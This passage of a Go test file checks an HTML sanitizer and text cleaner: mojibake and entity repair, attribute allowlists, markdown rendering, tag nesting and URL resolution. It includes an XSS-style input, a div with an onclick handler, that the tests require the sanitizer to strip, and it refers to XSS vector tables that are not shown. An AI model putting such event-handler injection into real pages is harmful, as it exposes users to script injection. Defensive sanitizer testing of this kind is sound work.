		{`<img src="https://t.example/empty.gif" width="" height="">`, `<img src="https://t.example/empty.gif">`},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got := HTML(tt.in, sanitizeBase)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, got, HTML(got, sanitizeBase))
		})
	}
}

func TestSanitizeHTMLText(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain text unchanged", "Just words, nothing else.", "Just words, nothing else."},
		{"entities normalized", "<p>Q&amp;A &nbsp; &copy; &#8217; &lt;tag&gt;</p>", "<p>Q&amp;A \u00a0 © ’ &lt;tag&gt;</p>"},
		{"mojibake in text", "<p>Beckerâ€™s Hospital Review.&nbsp;<br>What</p>", "<p>Becker’s Hospital Review.\u00a0<br>What</p>"},
		{"mojibake in attribute", `<img src="https://x.example/a.png" alt="cafÃ©">`, `<img src="https://x.example/a.png" alt="café">`},
		{"entity mojibake", "<p>caf&Atilde;&copy;</p>", "<p>café</p>"},
		{"XML-forbidden characters", "<p>a\x00b\x01c\x0bd\ufffee\uffff\xff</p>", "<p>abcde</p>"},
		{"XML-forbidden entities", "<p>a&#1;b&#xFFFE;c&#0;d</p>", "<p>abc\ufffdd</p>"},
		{"carriage returns", "<p>a\r\nb\rc&#13;</p>", "<p>a\nb\nc&#13;</p>"},
		{"divs and spans kept bare", `<div data-v-0b28739e="" class="page"><span aria-label="x">text</span></div>`, `<div><span>text</span></div>`},
		{"table spans", `<table><tr><td colspan="2" rowspan="x" width="50%">c</td></tr></table>`, `<table><tbody><tr><td colspan="2">c</td></tr></tbody></table>`},
		{"MathML annotation dropped", `<math><mi>x</mi><annotation encoding="application/x-tex">x^2</annotation></math>`, `x`},
		{"custom elements dropped", `<user-name>Vinit</user-name>`, `Vinit`},
		{"whitespace only", " \n ", " \n "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := HTML(tt.in, sanitizeBase)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, got, HTML(got, sanitizeBase), "not a fixed point")
		})
	}
}

// sanitizeFixtures returns the testdata/sanitize/*.html inputs by name.
func sanitizeFixtures(t testing.TB) map[string]string {
	t.Helper()
	paths, err := filepath.Glob(filepath.Join("testdata", "sanitize", "*.html"))
	require.NoError(t, err)
	require.NotEmpty(t, paths)
	fixtures := make(map[string]string, len(paths))
	for _, p := range paths {
		data, err := os.ReadFile(p)
		require.NoError(t, err)
		fixtures[p] = string(data)
	}
	return fixtures
}

// TestSanitizeHTMLGolden sanitizes each testdata/sanitize/*.html against
// sanitizeBase and compares the result with the .golden file beside it.
// Refresh with: go test -run TestSanitizeHTMLGolden -update-sanitize, then
// read the diff.
func TestSanitizeHTMLGolden(t *testing.T) {
	for path, in := range sanitizeFixtures(t) {
		t.Run(filepath.Base(path), func(t *testing.T) {
			got := HTML(in, sanitizeBase)
			requireSafeHTML(t, got)
			golden := strings.TrimSuffix(path, ".html") + ".golden"
			if *updateSanitize {
				require.NoError(t, os.WriteFile(golden, []byte(got), 0o644))
				return
			}
			want, err := os.ReadFile(golden)
			require.NoError(t, err, "no golden file: run go test -run TestSanitizeHTMLGolden -update-sanitize")
			assert.Equal(t, string(want), got)
		})
	}
}

// sanitizeSeeds returns every HTML input of the tables and fixtures.
func sanitizeSeeds(t testing.TB) []string {
	var seeds []string
	for _, v := range xssVectors {
		seeds = append(seeds, v.in)
	}
	for _, tt := range cleanTextTests {
		seeds = append(seeds, tt.in)
	}
	for _, tt := range mojibakeRepairTests {
		seeds = append(seeds, tt.in)
	}
	for _, tt := range stripInvalidXMLTests {
		seeds = append(seeds, tt.in)
	}
	for _, in := range sanitizeFixtures(t) {
		seeds = append(seeds, in)
	}
	for _, tt := range droppedElementTests {
		seeds = append(seeds, tt.in+markerAfter)
	}
	for _, v := range html5secVectors(t) {
		seeds = append(seeds, v.HTML)
	}
	seeds = append(seeds, trackingPixels...)
	seeds = append(seeds, legitimateImages...)
	return append(seeds, mojibakeUntouched...)
}

func TestSanitizeHTMLIdempotent(t *testing.T) {
	for i, in := range sanitizeSeeds(t) {
		for _, base := range []*url.URL{sanitizeBase, nil} {
			once := HTML(in, base)
			require.Equal(t, once, HTML(once, base), "seed %d, base %v: %q", i, base, in)
			requireSafeHTML(t, once)
		}
	}
}

func TestRenderMarkdown(t *testing.T) {
	src := "# Title\n\n" +
		"Some *emphasis*, ~~strike~~ and a bare link www.example.com.\n\n" +
		"| a | b |\n|---|---|\n| 1 | 2 |\n\n" +
		"<div onclick=\"x()\">raw <b>html</b></div>\n\n" +
		"[rel](../other/) ![img](pic.png \"T\")\n"
	rendered := RenderMarkdown([]byte(src))
	assert.Contains(t, rendered, "<h1>Title</h1>")
	assert.Contains(t, rendered, "<del>strike</del>")
	assert.Contains(t, rendered, `<a href="http://www.example.com">www.example.com</a>`)
	assert.Contains(t, rendered, "<td>2</td>")
	assert.Contains(t, rendered, `<div onclick="x()">`, "raw HTML passes to the sanitizer")

	want := "<h1>Title</h1>\n" +
		"<p>Some <em>emphasis</em>, <del>strike</del> and a bare link " +
		`<a href="http://www.example.com" rel="nofollow noopener noreferrer">www.example.com</a>.</p>` + "\n" +
		"<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n" +
		"<div>raw <b>html</b></div>\n" +
		`<p><a href="https://example.org/communities/ccm/curated-content/other/" rel="nofollow noopener noreferrer">rel</a> ` +
		`<img src="https://example.org/communities/ccm/curated-content/item/pic.png" alt="img" title="T"></p>` + "\n"
	assert.Equal(t, want, HTML(rendered, sanitizeBase))
}

// TestRenderMarkdownConcurrent converts from many goroutines, so that
// go test -race checks that the shared converter holds no per-call state.
func TestRenderMarkdownConcurrent(t *testing.T) {
	src := []byte("*a* | b\n--|--\n1 | www.example.com\n")
	want := RenderMarkdown(src)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 50 {
				assert.Equal(t, want, RenderMarkdown(src))
			}
		})
	}
	wg.Wait()
}

func TestHTMLAllowlistPatterns(t *testing.T) {
	assert.Len(t, htmlAllowlist, len(sanitizetest.AllowedElements), "the allowlist is the documented one")
	// Every restricted attribute is anchored at the start, so a pattern
	// cannot match a harmless-looking suffix of a hostile value.
	for attr, re := range htmlAttrValues {
		assert.True(t, strings.HasPrefix(re.String(), "^"), attr)
	}
	for element, attrs := range htmlAllowlist {
		assert.True(t, sanitizetest.AllowedElements[element], "%s is not among the elements the tests allow", element)
		assert.Regexp(t, regexp.MustCompile(`^[a-z][a-z0-9]*$`), element)
		for _, a := range attrs {
			assert.NotEqual(t, "style", a)
			assert.False(t, strings.HasPrefix(a, "on"), "%s has an event handler", element)
		}
	}
}

func BenchmarkSanitizeHTML(b *testing.B) {
	for path, in := range sanitizeFixtures(b) {
		b.Run(filepath.Base(path), func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			b.ReportAllocs()
			for b.Loop() {
				HTML(in, sanitizeBase)
			}
		})
	}
}

func BenchmarkCleanText(b *testing.B) {
	inputs := map[string]string{
		"clean":    "Improving Cybersecurity in the Medical Industry",
		"accented": "Santé publique: l’équipe de Montréal",
		"entities": "Research &amp; Development&nbsp;<br> at <b>Becker&#8217;s</b>",
		"mojibake": "Beckerâ€™s Hospital Review â€” cafÃ© edition",
	}
	for name, in := range inputs {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Text(in)
			}
		})
	}
}

// TestWriterNesting requires the HTML writer's verdict on the nesting of
// what it wrote to be wellNested's on reading it back: HTML skips the read
// when the writer says the markup is plainly well-formed.
func TestWriterNesting(t *testing.T) {
	cases := []struct {
		in     string
		nested bool
	}{
		{`<p>one</p><ul><li>two</li></ul>`, true},
		{`<table><tr><td>cell</td></tr></table>`, true},
		{`plain &amp; text`, true},
		// Unwrapping the button leaves a paragraph in a paragraph.
		{`<p>a<button><p>b</p></button>c</p>`, false},
		// Text the parser moves out of a table.
		{`<table><tr><td>1</td>text</tr></table>`, true},
		// A link inside a link, once the object between them is gone.
		{`<a href="https://a.example/">x<object><a href="https://b.example/">y</a></object></a>`, false},
		{`<h1>t<span><h2>u</h2></span></h1>`, true},
		// A heading in a heading, once the form between them is gone.
		{`<h1>t<form><h2>u</h2></form></h1>`, false},
	}
	for _, c := range cases {
		written, nested := parseAsBrowser(c.in, sanitizeBase)
		assert.Equal(t, wellNested(written), nested, "%q → %q", c.in, written)
		assert.Equal(t, c.nested, nested, "%q → %q", c.in, written)
		// Either way, HTML's result is the balanced one.
		assert.Equal(t, HTML(written, sanitizeBase), HTML(c.in, sanitizeBase))
	}
	for _, s := range sanitizeSeeds(t) {
		written, nested := parseAsBrowser(s, sanitizeBase)
		require.Equal(t, wellNested(written), nested, "%q → %q", s, written)
	}
}

// checkSettledText requires settledText's one pass to answer as the
// separate checks it replaces do: cleanHTMLText's (with refs) and
// sanitizedText's, whose result is then s itself.
func checkSettledText(t *testing.T, s string) {
	t.Helper()
	want := !strings.Contains(s, "&#") && invalidXMLIndex(s) < 0 && (isASCII(s) ||
		!strings.ContainsFunc(s, isHiddenRune) && !hasMojibakeLead(s) && norm.NFC.IsNormalString(s))
	if got := settledText(s, true); got != want {
		t.Fatalf("settledText(%q, true) = %v, the separate checks say %v", s, got, want)
	}
	want = invalidXMLIndex(s) < 0 && !hasMojibakeLead(s) &&
		!containsInvisible(s, isInvisibleMarkup, &asciiInvisibleMarkup) && norm.NFC.IsNormalString(s)
	if got := settledText(s, false); got != want {
		t.Fatalf("settledText(%q, false) = %v, the separate checks say %v", s, got, want)
	}
	if want {
		slow := settleText(RepairMojibake(StripInvalidXML(s)), dropInvisibleMarkup, nfcMarkup)
		if slow != s {
			t.Fatalf("settledText(%q, false), but the passes make it %q", s, slow)
		}
	}
}

func TestSettledText(t *testing.T) {
	edges := []string{
		"", "plain text", "a & b", "a &amp; b", "&#", "a&#x41;", "&", "x&", "tab\tnew\nline\r",
		"\x00", "\x1f", "\x7f", "caf\u00e9", "cafe\u0301", "\u00c1", "\u00c2", "\u00f4", "\u00f5",
		"\u0085", "\u009f", "\u00a0", "\u202e", "\u2066", "\ufeff", "\ufdd0", "\uffff", "\ufffd",
		"\xff", "a\xc3", "\xc3\xa9", "\U0001F600", "\U0001FFFE", "\ud7ff\ue000", "Beck\u00e2\u20ac\u2122s",
		"\u1e9b\u0323", "\uac00\u11a8", "\u212b",
	}
	for _, s := range edges {
		checkSettledText(t, s)
	}
	// settledText reads eight bytes at a time where it can: every edge at
	// every offset of a word, next to plain words, a reference, a line
	// break and a combining mark after ASCII.
	for _, e := range edges {
		for pad := range 9 {
			lead := "abcdefgh"[:pad]
			for _, s := range []string{
				lead + e, lead + e + " and some plain words after it", e + lead + "&#8238;" + lead,
				lead + "x\n" + e + e + "\ttabs and more plain words", lead + e + "e\u0301 words" + e,
				strings.Repeat(lead+"plain words ", 3) + e + strings.Repeat(" more words", 3),
			} {
				checkSettledText(t, s)
			}
		}
	}
	for c := range rune(utf8.RuneSelf) {
		require.True(t, norm.NFC.PropertiesString(string(c)).BoundaryBefore(),
			"normalSegment takes every ASCII character for a boundary; %q is not", c)
	}
	for _, s := range sanitizeSeeds(t) {
		checkSettledText(t, s)
	}
	for _, tt := range cleanTextTests {
		checkSettledText(t, tt.in)
	}
	assert.True(t, settledText("Plain words, 日本語 and Ωmega.", true))
	assert.False(t, settledText("café", true), "a character that may lead mojibake takes the long way")
	assert.False(t, settledText("a&#8238;b", true))
	assert.True(t, settledText("a&#38;b", false), "a reference is markup to sanitizedText")
}

// plainURLTests are URLs near the edges of what plainURL passes untouched.
var plainURLTests = []struct {
	raw   string
	plain bool
}{
	{"https://hhs.gov/article/a-practical-guide/", true},
	{"http://a.example.org", true},
	{"https://a.example.org?x=1&y=a,b;c:d@e/f+g", true},
	{"https://cdn.example.org/img/A_b~c.d-e.JPEG", true},
	{"https://a.example.org/", true},
	{"HTTPS://a.example.org/", false},
	{"https://A.example.org/", false},
	{"https://a.example.org:443/", false},
	{"https://user@a.example.org/", false},
	{"https://a.example.org/./x", false},
	{"https://a.example.org/x/..", false},
	{"https://a.example.org//x", false},
	{"https://a.example.org/x?", false},
	{"https://a.example.org/x#top", false},
	{"https://a.example.org/%41", false},
	{"https://a.example.org/a b", false},
	{"https://a.example.org/x?q=%20", false},
	{"https://a.example.org/x?a?b", false},
	{"https:///x", false},
	{"https://", false},
	{"https:a.example.org", false},
	{"https://a.example.org/\u00e9", false},
	{" https://a.example.org/", false},
}

// resolvePlainBases and resolvePlainRefs are bases and relative URLs near
// the edges of what resolvePlain resolves on its own.
var resolvePlainBases = []string{
	"https://www.example.org/news/a-story/", "https://www.example.org/news/a-story",
	"https://www.example.org", "https://www.example.org/", "http://a.example.org/x/y/z.html?q=1#top",
	"https://WWW.example.org/news/", "https://www.example.org:8443/news/", "https://u@www.example.org/news/",
	"https://www.example.org/a/../b/", "https://www.example.org//b/", "https://www.example.org/%7Euser/",
	"https://www.example.org/caf%C3%A9/", "ftp://www.example.org/pub/", "mailto:a@example.org",
}

var resolvePlainRefs = []string{
	"7f30085f-featuredImage.jpeg", "img/a_b~c.d-e.JPEG", "a/", "a", "...", "a/.../b",
	"./a", "../a", "a/..", "a/.", ".", "..", "a//b", "/a", "//host/a", "a:b", "a?x=1", "a#top",
	"a%20b", "a b", " a", "é.png", "", "a\\b", "a;b",
}

func TestResolvePlain(t *testing.T) {
	took := 0
	for _, b := range resolvePlainBases {
		base, err := url.Parse(b)
		require.NoError(t, err, b)
		for _, raw := range resolvePlainRefs {
			if checkResolvePlain(t, raw, base) {
				took++
			}
		}
	}
	// The common case takes the short way.
	base, _ := url.Parse("https://www.example.org/news/a-story/")
	got, ok := resolvePlain("7f30085f-featuredImage.jpeg", base)
	assert.True(t, ok)
	assert.Equal(t, "https://www.example.org/news/a-story/7f30085f-featuredImage.jpeg", got)
	assert.Greater(t, took, 20)
	// A base made in code whose path is not rooted is left to net/url.
	_, ok = resolvePlain("a", &url.URL{Scheme: "https", Host: "h.example.org", Path: "x/"})
	assert.False(t, ok)
}

// checkResolvePlain requires what resolvePlain makes of raw against base
// to be what net/url's cleaning makes of it, in either mode, and reports
// whether resolvePlain took it.
func checkResolvePlain(t *testing.T, raw string, base *url.URL) bool {
	t.Helper()
	got, ok := resolvePlain(raw, base)
	if !ok {
		return false
	}
	for _, mailto := range []bool{false, true} {
		if want, wok := cleanURLParsed(raw, base, mailto); !wok || want != got {
			t.Fatalf("resolvePlain(%q, %q) = %q, cleaning gives %q (%v)", raw, base, got, want, wok)
		}
	}
	return true
}

func TestPlainURL(t *testing.T) {
	for _, tt := range plainURLTests {
		assert.Equal(t, tt.plain, plainURL(tt.raw), tt.raw)
		checkPlainURL(t, tt.raw)
	}
}

// BenchmarkSummary is a summary taken from a sanitized body: without a
// description (the body's text cut), and with one that lost the spaces of
// the body's text (see Summary).
func BenchmarkSummary(b *testing.B) {
	for path, in := range sanitizeFixtures(b) {
		body := HTML(in, sanitizeBase)
		get := func() string { return body }
		lost := []rune(Text(body))
		lost = lost[:min(len(lost), 200)]
		described := strings.ReplaceAll(string(lost), " ", "")
		for name, d := range map[string]string{"none": "", "lost spaces": described} {
			b.Run(filepath.Base(path)+"/"+name, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					Summary(d, get)
				}
			})
		}
	}
}

// BenchmarkSettledText is the check that lets sanitized text skip the
// cleaning passes, on each sanitizer fixture's sanitized body.
func BenchmarkSettledText(b *testing.B) {
	for path, in := range sanitizeFixtures(b) {
		body := HTML(in, sanitizeBase)
		b.Run(filepath.Base(path), func(b *testing.B) {
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				settledText(body, false)
			}
		})
	}
}

// TestUnwrappedNesting puts every allowed element inside every allowed
// element, behind an element the writer unwraps and whose scope kept the
// parser from closing the outer element (a button, an object, a marquee, an
// applet, MathML text, an SVG foreignObject). Once the wrapper is gone, the inner element may be one that
// closes the outer (a list item in a paragraph, a definition in a term):
// HTML must not call that well-formed, and its result must be a fixed point
// that parses to what it says.
func TestUnwrappedNesting(t *testing.T) {
	element := func(name, content string) string {
		if kindOf(atom.Lookup([]byte(name)))&kindVoid != 0 {
			return "<" + name + ">"
		}
		return "<" + name + ">" + content + "</" + name + ">"
	}
	wrappers := [][2]string{
		{"<button>", "</button>"}, {"<object>", "</object>"}, {"<marquee>", "</marquee>"},
		{"<applet>", "</applet>"}, {"<math><mi>", "</mi></math>"}, {"<math><mtext>", "</mtext></math>"},
		{"<svg><foreignObject>", "</foreignObject></svg>"},
	}
	for _, wrapper := range wrappers {
		for outer := range htmlAllowlist {
			for inner := range htmlAllowlist {
				in := element(outer, "a"+wrapper[0]+element(inner, "x")+wrapper[1]+"b")
				out := HTML(in, sanitizeBase)
				require.Equal(t, out, HTML(out, sanitizeBase), "not a fixed point: %q", in)
				if wellNested(out) {
					again, ok := parseAndRender(out)
					require.True(t, ok)
					require.Equal(t, out, again, "%q → %q is called well-formed but parses otherwise", in, out)
				}
			}
		}
	}
}

// streamTests are markup streamAsBrowser takes (stream) and markup it leaves
// to the parser, each for a reason the tree would differ from the tags.
var streamTests = []struct {
	in     string
	stream bool
}{
	{`<p>One <a href="/x" target="_blank">link</a> &amp; <b>bold</b>.</p>`, true},
	{"<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<h2>T</h2><blockquote><p>q</p></blockquote>", true},
	{`<p>a<!-- a comment -->b</p><img src="https://example.com/i.png" alt="i"><br/>`, true},
	{"<table>\n<tbody><tr><td>1</td><th>2</th></tr></tbody></table>", true},
	{"<pre>x\n y</pre><pre><!-- c -->\nz</pre>", true},
	{`plain text, &lt;not a tag&gt;`, true},
	{`<p>unclosed`, false},
	{`<p>a<div>b</div></p>`, false},
	{`<p>a<li>b</li></p>`, false},
	{`<dl><dt>a<dd>b</dd></dt></dl>`, false},
	{`<ul><li>a<ul><li>b</li></ul></li></ul>`, false},
	{`<a href="/a">a<a href="/b">b</a></a>`, false},
	{`<h1>a<h2>b</h2></h1>`, false},
	{`<b>a<i>b</b>c</i>`, false},
	{`<table><tr><td>1</td></tr></table>`, false},
	{`<table><tbody><tr><td>1</td></tr>text</tbody></table>`, false},
	{`<table><caption>c<table><tbody><tr><td>1</td></tr></tbody></table></caption></table>`, false},
	{`<td>cell</td>`, false},
	{`<p/>text`, false},
	{"<pre>\nx</pre>", false},
	{"<pre>\r\nx</pre>", false},
	{"a\x00b", false},
	{`<!DOCTYPE html><p>a</p>`, false},
	{`<span>a<form>b</form></span>`, false},
	{`<image src="https://example.com/i.png">`, false},
	{`<p>a</p></br>`, false},
	{`<p>a</p></p>`, false},
	{strings.Repeat("<span>", streamDepth+1) + "x" + strings.Repeat("</span>", streamDepth+1), false},
}

// checkStream requires streamAsBrowser, when it takes in, to write what the
// writer writes from the parser's tree, and to call it well-formed as the
// tree's writer does. It reports whether it took in.
func checkStream(t testing.TB, in string, base *url.URL) bool {
	t.Helper()
	out, ok := streamAsBrowser(in, base)
	if !ok {
		if out != "" {
			t.Fatalf("streamAsBrowser(%q) declined but wrote %q", in, out)
		}
		return false
	}
	tree, nested := treeAsBrowser(in, base)
	if out != tree || !nested {
		t.Fatalf("streamAsBrowser(%q):\nstream: %q\ntree:   %q (nested %v)", in, out, tree, nested)
	}
	return true
}

// TestStreamAsBrowser requires the stream to take the markup that is its
// own tree and to leave the rest to the parser, and to agree with the tree
// on every seed of the sanitizer's fuzz tests.
func TestStreamAsBrowser(t *testing.T) {
	// nesting knows elements by their atoms.
	for name := range htmlAllowlist {
		require.Equal(t, name, atom.Lookup([]byte(name)).String(), "no atom for <%s>", name)
	}
	for _, tt := range streamTests {
		assert.Equal(t, tt.stream, checkStream(t, tt.in, sanitizeBase), "%q", tt.in)
	}
	taken := 0
	seeds := sanitizeSeeds(t)
	for _, s := range seeds {
		if checkStream(t, s, sanitizeBase) {
			taken++
		}
	}
	t.Logf("the stream took %d of %d seeds", taken, len(seeds))
}
